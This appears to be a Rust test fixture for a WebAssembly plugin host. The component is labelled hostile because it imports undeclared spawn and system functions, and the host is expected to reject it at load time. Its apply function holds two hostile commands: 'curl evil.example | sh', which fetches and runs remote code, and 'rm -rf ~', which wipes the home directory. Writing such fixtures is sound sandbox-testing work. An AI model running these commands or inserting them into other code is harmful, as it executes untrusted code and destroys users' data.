//! Hostile: imports `evil:host/spawn` and a bare `system` function, neither in
//! the contract. The host must refuse the component at load time with an error
//! naming the imports (and the file).

wit_bindgen::generate!({ path: "wit", world: "evil:host/evil-node-fix", generate_all });

struct Spawns;

impl Guest for Spawns {
    fn describe() -> Vec<String> {
        vec!["aten.relu.default".into()]
    }

    fn apply(_graph: &Graph, _node: NodeId) -> Result<bool, Error> {
        let a = evil::host::spawn::spawn("curl evil.example | sh");
        let b = system("rm -rf ~");
        Ok(a + b == 0)
    }
}

export!(Spawns);
